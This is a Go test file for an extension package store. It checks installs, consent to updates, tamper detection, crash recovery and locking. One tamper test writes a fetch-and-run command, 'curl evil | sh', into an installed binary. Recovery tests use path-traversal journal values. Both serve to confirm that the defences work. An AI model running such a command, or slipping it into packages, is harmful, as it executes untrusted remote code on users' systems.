package packaging

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// version writes package "demo" at version v with n tools and extra files.
func version(t *testing.T, v string, tools ...string) string {
	t.Helper()
	var ts []any
	for _, n := range tools {
		ts = append(ts, obj{"name": n})
	}
	m := manifest(func(f obj) { f["tools"] = ts })
	m["version"] = v
	files := map[string]any{"plugin.json": m, "README.md": "demo " + v + "\n"}
	for i := range 5 {
		files[fmt.Sprintf("lib/file%d.txt", i)] = strings.Repeat(v, 100)
	}
	d := pkg(t, files)
	write(t, filepath.Join(d, "bin/srv"), "#!/bin/sh\necho "+v+"\n", 0o755)
	return d
}

func gitInstall(src string) InstallOptions {
	return InstallOptions{
		Source: Source{Kind: SourceGit, URL: "https://example.com/o/" + filepath.Base(src)},
		Fetch: func(ctx context.Context, dir string) (FetchResult, error) {
			return FetchResult{Commit: strings.Repeat("c", 40)}, CopyTree(src, dir)
		},
	}
}

// snapshot captures the store's observable state: the lock bytes and the
// content hash of every directory under extensions/.
func snapshot(t *testing.T, s *Store) string {
	t.Helper()
	lock, err := os.ReadFile(s.LockPath())
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		t.Fatal(err)
	}
	out := "lock:" + string(lock) + "\n"
	ents, _ := os.ReadDir(s.ExtensionsDir())
	for _, e := range ents {
		h, err := HashDir(filepath.Join(s.ExtensionsDir(), e.Name()))
		if err != nil {
			h = err.Error()
		}
		out += e.Name() + " " + h + "\n"
	}
	return out
}

func TestInstallVerifyUpdateRemove(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	v1 := version(t, "1.0.0", "a")
	res, err := s.Install(ctx, gitInstall(v1))
	if err != nil {
		t.Fatal(err)
	}
	if res.Entry.Name != "demo" || res.Entry.Commit != strings.Repeat("c", 40) || !res.Change.Widens() || res.Previous != nil {
		t.Errorf("first install = %+v", res)
	}
	if h, _ := HashDir(v1); h != res.Entry.ContentHash {
		t.Errorf("lock hash %s != source hash %s", res.Entry.ContentHash, h)
	}
	v, err := s.VerifyInstalled(ctx, "demo")
	if err != nil || v.Exempt || v.Manifest.Version != "1.0.0" || v.Dir != filepath.Join(s.ExtensionsDir(), "demo") {
		t.Fatalf("VerifyInstalled = %+v, %v", v, err)
	}
	if fi, err := os.Stat(filepath.Join(v.Dir, "bin/srv")); err != nil || fi.Mode()&0o111 == 0 {
		t.Errorf("installed server lost its exec bit: %v", err)
	}

	// Same content again: a silent no-op that writes nothing.
	before := snapshot(t, s)
	res, err = s.Install(ctx, gitInstall(v1))
	if err != nil || !res.Unchanged {
		t.Fatalf("reinstall = %+v, %v", res, err)
	}
	if snapshot(t, s) != before {
		t.Error("a no-op update changed the store")
	}

	// A widening update whose consent is refused leaves everything as it was.
	v2 := version(t, "2.0.0", "a", "b")
	o := gitInstall(v2)
	var seen Change
	o.Approve = func(next, prev *Manifest, c Change) error {
		seen = c
		if prev == nil || prev.Version != "1.0.0" || next.Version != "2.0.0" {
			t.Errorf("Approve got prev %+v next %+v", prev, next)
		}
		return ErrNotApproved
	}
	if _, err := s.Install(ctx, o); !errors.Is(err, ErrNotApproved) {
		t.Fatalf("declined install: %v", err)
	}
	if !seen.Widens() || !strings.Contains(seen.String(), "new tool b") {
		t.Errorf("consent saw %s", seen)
	}
	if snapshot(t, s) != before {
		t.Error("a declined update changed the store")
	}

	// Accepted: the package and lock move together.
	o.Approve = nil
	res, err = s.Install(ctx, o)
	if err != nil || res.Previous == nil || res.Previous.Version != "1.0.0" {
		t.Fatalf("update = %+v, %v", res, err)
	}
	if v, err := s.VerifyInstalled(ctx, "demo"); err != nil || v.Manifest.Version != "2.0.0" {
		t.Fatalf("after update: %+v, %v", v, err)
	}
	assertNoLeftovers(t, s)

	if err := s.Remove(ctx, "demo"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.VerifyInstalled(ctx, "demo"); !errors.Is(err, ErrNotInstalled) {
		t.Errorf("after remove: %v", err)
	}
	if _, err := os.Stat(filepath.Join(s.ExtensionsDir(), "demo")); !errors.Is(err, os.ErrNotExist) {
		t.Error("package directory survived remove")
	}
	if err := s.Remove(ctx, "demo"); !errors.Is(err, ErrNotInstalled) {
		t.Errorf("second remove: %v", err)
	}
	assertNoLeftovers(t, s)
}

func assertNoLeftovers(t *testing.T, s *Store) {
	t.Helper()
	ents, _ := os.ReadDir(s.ExtensionsDir())
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), ".") {
			t.Errorf("leftover %s in the store", e.Name())
		}
	}
}

func TestInstallRejectsBadPackagesUntouched(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	if _, err := s.Install(ctx, gitInstall(version(t, "1.0.0", "a"))); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, s)
	bad := map[string]InstallOptions{
		"invalid manifest": gitInstall(pkg(t, map[string]any{"plugin.json": manifest(func(f obj) { f["protocol_version"] = "9.0" })})),
		"fetch fails": {Source: Source{Kind: SourceGit, URL: "https://example.com/o/r"}, Fetch: func(ctx context.Context, dir string) (FetchResult, error) {
			os.WriteFile(filepath.Join(dir, "partial"), []byte("x"), 0o644)
			return FetchResult{}, errors.New("network down")
		}},
		"wrong name": func() InstallOptions {
			o := gitInstall(version(t, "3.0.0", "a"))
			o.Name = "other"
			return o
		}(),
	}
	for name, o := range bad {
		if _, err := s.Install(ctx, o); err == nil {
			t.Errorf("%s: install succeeded", name)
		}
		if snapshot(t, s) != before {
			t.Errorf("%s: a failed install changed the store", name)
		}
		assertNoLeftovers(t, s)
	}
}

func TestVerifyInstalledRefusesTampering(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	if _, err := s.Install(ctx, gitInstall(version(t, "1.0.0", "a"))); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(s.ExtensionsDir(), "demo")
	write(t, filepath.Join(dir, "bin/srv"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
	os.Remove(filepath.Join(dir, "README.md"))
	write(t, filepath.Join(dir, "hook.sh"), "x", 0o755)
	_, err := s.VerifyInstalled(ctx, "demo")
	if !errors.Is(err, ErrTampered) {
		t.Fatalf("want ErrTampered, got %v", err)
	}
	for _, w := range []string{"changed: bin/srv", "added: hook.sh", "removed: README.md", "yolop ext update demo"} {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("error %q lacks %q", err, w)
		}
	}
	list, err := s.List(ctx)
	if err != nil || len(list) != 1 || !strings.Contains(list[0].Warning, "bin/srv") || list[0].Manifest != nil {
		t.Errorf("List = %+v, %v", list, err)
	}
}

func TestPathSourceIsExemptButFlagged(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	src := version(t, "1.0.0", "a")
	res, err := s.Install(ctx, InstallOptions{Source: Source{Kind: SourcePath, Path: src}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Entry.Kind != SourcePath || res.Entry.Source != src {
		t.Errorf("entry = %+v", res.Entry)
	}
	if _, err := os.Stat(filepath.Join(s.ExtensionsDir(), "demo")); err == nil {
		t.Error("a path source was copied into the store")
	}
	if len(res.Entry.Files) != 1 || res.Entry.Files[0].Path != "plugin.json" {
		t.Errorf("a path source pins its manifest only, got %+v", res.Entry.Files)
	}
	// Build output in the live directory does not make an update non-silent.
	write(t, filepath.Join(src, "target/debug/huge"), "binary", 0o755)
	if again, err := s.Install(ctx, InstallOptions{Source: Source{Kind: SourcePath, Path: src}}); err != nil || !again.Unchanged {
		t.Errorf("re-install of an unchanged path manifest = %+v, %v", again, err)
	}
	write(t, filepath.Join(src, "README.md"), "edited in the dev loop", 0o644)
	v, err := s.VerifyInstalled(ctx, "demo")
	if err != nil || !v.Exempt || v.Dir != src {
		t.Errorf("VerifyInstalled = %+v, %v", v, err)
	}
	list, _ := s.List(ctx)
	if len(list) != 1 || !list[0].PathSource || list[0].Warning != "" {
		t.Errorf("List = %+v", list)
	}
	if err := s.Remove(ctx, "demo"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(src, "plugin.json")); err != nil {
		t.Errorf("removing a path source touched the author's directory: %v", err)
	}
}

func TestListSkipsMalformedPackages(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	if _, err := s.Install(ctx, gitInstall(version(t, "1.0.0", "a"))); err != nil {
		t.Fatal(err)
	}
	other := version(t, "1.0.0", "a")
	os.WriteFile(filepath.Join(other, "plugin.json"), []byte(`{"name":"other","version":"1"}`), 0o644)
	if _, err := s.Install(ctx, gitInstall(other)); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(s.ExtensionsDir(), "stray"), 0o755)
	// Break "other" after install: its manifest no longer parses. (Its hash
	// changes too; List reports rather than fails.)
	os.WriteFile(filepath.Join(s.ExtensionsDir(), "other", "plugin.json"), []byte("{"), 0o644)
	list, err := s.List(ctx)
	if err != nil {
		t.Fatalf("List failed on a malformed package: %v", err)
	}
	got := map[string]Installed{}
	for _, in := range list {
		got[in.Name] = in
	}
	if got["demo"].Warning != "" || got["demo"].Manifest == nil {
		t.Errorf("healthy package: %+v", got["demo"])
	}
	if got["other"].Warning == "" || got["stray"].Warning == "" || !strings.Contains(got["stray"].Warning, "not in") {
		t.Errorf("malformed packages not flagged: %+v", list)
	}
}

func TestCorruptLockIsNeverReset(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	if _, err := s.Install(ctx, gitInstall(version(t, "1.0.0", "a"))); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(s.LockPath())
	truncated := b[:len(b)/2]
	os.WriteFile(s.LockPath(), truncated, 0o644)
	for name, op := range map[string]func() error{
		"list":    func() error { _, err := s.List(ctx); return err },
		"verify":  func() error { _, err := s.VerifyInstalled(ctx, "demo"); return err },
		"install": func() error { _, err := s.Install(ctx, gitInstall(version(t, "2.0.0", "a"))); return err },
		"remove":  func() error { return s.Remove(ctx, "demo") },
	} {
		err := op()
		if !errors.Is(err, ErrLockCorrupt) || !strings.Contains(err.Error(), s.LockPath()) {
			t.Errorf("%s: want ErrLockCorrupt naming the file, got %v", name, err)
		}
		if now, _ := os.ReadFile(s.LockPath()); string(now) != string(truncated) {
			t.Errorf("%s rewrote the corrupt lock", name)
		}
	}
}

func TestConfigDir(t *testing.T) {
	t.Setenv("YOLOP_CONFIG_DIR", "/x/y")
	if d, err := ConfigDir(); err != nil || d != "/x/y" {
		t.Errorf("ConfigDir = %q, %v", d, err)
	}
	t.Setenv("YOLOP_CONFIG_DIR", "")
	t.Setenv("XDG_CONFIG_HOME", "/cfg")
	if d, err := ConfigDir(); err != nil || d != "/cfg/yolop" {
		t.Errorf("ConfigDir = %q, %v", d, err)
	}
}

// helper starts the test binary as an installing process.
func helper(t *testing.T, cfg, src, crashAt, marker string, env ...string) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), helperEnv+"=install", "HELPER_CONFIG="+cfg, "HELPER_SRC="+src,
		"HELPER_CRASH_AT="+crashAt, "HELPER_MARKER="+marker)
	cmd.Env = append(cmd.Env, env...)
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	return cmd
}

func waitFor(t *testing.T, p string, cmd *exec.Cmd) {
	t.Helper()
	deadline := time.Now().Add(60 * time.Second) // a hang guard, not a timing assertion
	for {
		if _, err := os.Stat(p); err == nil {
			return
		}
		if time.Now().After(deadline) {
			cmd.Process.Kill()
			cmd.Wait()
			t.Fatalf("helper never reached its crash point (%s)", p)
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func TestInstallKilledHalfWay(t *testing.T) {
	v1 := version(t, "1.0.0", "a")
	v2 := version(t, "2.0.0", "a", "b")
	for _, step := range []string{"copy", "fetched", "journal", "aside", "placed", "locked"} {
		t.Run(step, func(t *testing.T) {
			ctx := context.Background()
			s := NewStore(t.TempDir())
			if _, err := s.Install(ctx, gitInstall(v1)); err != nil {
				t.Fatal(err)
			}
			before := snapshot(t, s)
			marker := filepath.Join(t.TempDir(), "frozen")
			cmd := helper(t, s.Dir(), v2, step, marker)
			waitFor(t, marker, cmd)
			if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
				t.Fatal(err)
			}
			cmd.Wait()

			// Any later operation (here List) recovers first.
			list, err := s.List(ctx)
			if err != nil {
				t.Fatal(err)
			}
			assertNoLeftovers(t, s)
			want := "1.0.0"
			if step == "locked" { // the lock was written: the commit point passed
				want = "2.0.0"
			} else if after := snapshot(t, s); after != before {
				t.Errorf("store differs from before the killed install:\nbefore:\n%s\nafter:\n%s", before, after)
			}
			if len(list) != 1 || list[0].Warning != "" || list[0].Manifest.Version != want {
				t.Fatalf("after recovery List = %+v", list)
			}
			if _, err := s.VerifyInstalled(ctx, "demo"); err != nil {
				t.Errorf("package does not match its lock after recovery: %v", err)
			}
		})
	}
}

func TestFreshInstallAndRemoveKilledHalfWay(t *testing.T) {
	ctx := context.Background()
	v1 := version(t, "1.0.0", "a")
	for _, step := range []string{"journal", "placed"} {
		t.Run("fresh install at "+step, func(t *testing.T) {
			s := NewStore(t.TempDir())
			marker := filepath.Join(t.TempDir(), "frozen")
			cmd := helper(t, s.Dir(), v1, step, marker)
			waitFor(t, marker, cmd)
			cmd.Process.Signal(syscall.SIGKILL)
			cmd.Wait()
			list, err := s.List(ctx)
			if err != nil || len(list) != 0 {
				t.Errorf("after recovery List = %+v, %v", list, err)
			}
			assertNoLeftovers(t, s)
		})
	}
	for _, step := range []string{"aside", "placed"} {
		t.Run("remove at "+step, func(t *testing.T) {
			s := NewStore(t.TempDir())
			if _, err := s.Install(ctx, gitInstall(v1)); err != nil {
				t.Fatal(err)
			}
			before := snapshot(t, s)
			marker := filepath.Join(t.TempDir(), "frozen")
			cmd := helper(t, s.Dir(), "", step, marker, "HELPER_OP=remove")
			waitFor(t, marker, cmd)
			cmd.Process.Signal(syscall.SIGKILL)
			cmd.Wait()
			if err := s.Recover(ctx); err != nil {
				t.Fatal(err)
			}
			if after := snapshot(t, s); after != before {
				t.Errorf("killed remove changed the store:\nbefore:\n%s\nafter:\n%s", before, after)
			}
			if _, err := s.VerifyInstalled(ctx, "demo"); err != nil {
				t.Error(err)
			}
		})
	}
}

// TestRecoveryIsIdempotent recreates the state a crash leaves when it hits
// an earlier recovery right after it restored the old package: the journal
// is still there, the staging and set-aside directories are gone.
func TestRecoveryIsIdempotent(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	if _, err := s.Install(ctx, gitInstall(version(t, "1.0.0", "a"))); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, s)
	for _, j := range []journal{
		{Name: "demo", Staged: ".tmp-install-gone", Aside: ".old-demo-gone", HadOld: true, LockSHA256: strings.Repeat("0", 64)},
		{Name: "demo", Aside: ".old-demo-gone", HadOld: true, LockSHA256: strings.Repeat("0", 64)},
	} {
		b, _ := json.Marshal(j)
		if err := os.WriteFile(s.journalPath(), b, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := s.Recover(ctx); err != nil {
			t.Fatal(err)
		}
		if after := snapshot(t, s); after != before {
			t.Errorf("a repeated rollback changed the store:\nbefore:\n%s\nafter:\n%s", before, after)
		}
		assertNoLeftovers(t, s)
	}
	// An unreadable or tampered journal stops recovery without touching
	// anything.
	for _, bad := range []string{"{", `{"name":"demo","aside":".old-/../../demo","lock_sha256":""}`, `{"name":"demo","aside":".old-x","staged":"../demo"}`} {
		os.WriteFile(s.journalPath(), []byte(bad), 0o644)
		if err := s.Recover(ctx); err == nil || !strings.Contains(err.Error(), ".txn.json") {
			t.Errorf("journal %s: want an error naming the journal, got %v", bad, err)
		}
	}
	os.Remove(s.journalPath())
	if after := snapshot(t, s); after != before {
		t.Error("an unreadable journal led to changes")
	}
}

func TestConcurrentInstallsFromTwoProcesses(t *testing.T) {
	s := NewStore(t.TempDir())
	v2 := version(t, "2.0.0", "a", "b")
	v3 := version(t, "3.0.0", "a", "b", "c")
	a := helper(t, s.Dir(), v2, "", "")
	b := helper(t, s.Dir(), v3, "", "")
	errA, errB := a.Wait(), b.Wait()
	if errA != nil || errB != nil {
		t.Fatalf("installs failed: %v / %v", errA, errB)
	}
	ctx := context.Background()
	v, err := s.VerifyInstalled(ctx, "demo")
	if err != nil {
		t.Fatalf("store inconsistent after racing installs: %v", err)
	}
	if v.Manifest.Version != "2.0.0" && v.Manifest.Version != "3.0.0" {
		t.Errorf("version %s", v.Manifest.Version)
	}
	assertNoLeftovers(t, s)
}

func TestConcurrentInstallsInProcess(t *testing.T) {
	ctx := context.Background()
	s := NewStore(t.TempDir())
	srcs := []string{version(t, "1.0.0", "a"), version(t, "2.0.0", "a", "b"), version(t, "3.0.0", "c")}
	errs := make(chan error, len(srcs))
	for _, src := range srcs {
		go func() {
			_, err := NewStore(s.Dir()).Install(ctx, gitInstall(src))
			errs <- err
		}()
	}
	for range srcs {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
	if _, err := s.VerifyInstalled(ctx, "demo"); err != nil {
		t.Errorf("store inconsistent: %v", err)
	}
	assertNoLeftovers(t, s)
}

func TestLockWaitHonoursContext(t *testing.T) {
	s := NewStore(t.TempDir())
	fl, err := s.lock(context.Background(), true)
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Unlock()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := s.Install(ctx, gitInstall(version(t, "1.0.0", "a"))); !errors.Is(err, context.Canceled) {
		t.Errorf("want context.Canceled while the lock is held, got %v", err)
	}
}
